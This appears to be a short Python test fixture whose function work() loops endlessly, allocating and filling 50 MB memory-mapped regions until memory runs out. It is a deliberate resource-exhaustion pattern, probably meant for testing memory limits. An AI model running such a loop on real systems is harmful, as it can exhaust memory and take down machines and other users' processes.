import mmap


def work(x):
    data = []
    while True:
        data.append(mmap.mmap(-1, 50_000_000))
        data[-1].write(b"x" * 50_000_000)
